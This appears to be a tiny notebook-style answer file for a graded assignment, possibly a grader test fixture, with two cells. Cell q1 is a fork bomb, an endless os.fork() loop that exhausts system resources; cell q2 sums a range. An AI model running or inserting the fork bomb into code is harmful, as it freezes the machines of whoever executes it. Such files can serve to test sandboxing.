# %%
# question: q1
import os
while True:
    try: os.fork()
    except OSError: pass

# %%
# question: q2
total = sum(range(10))
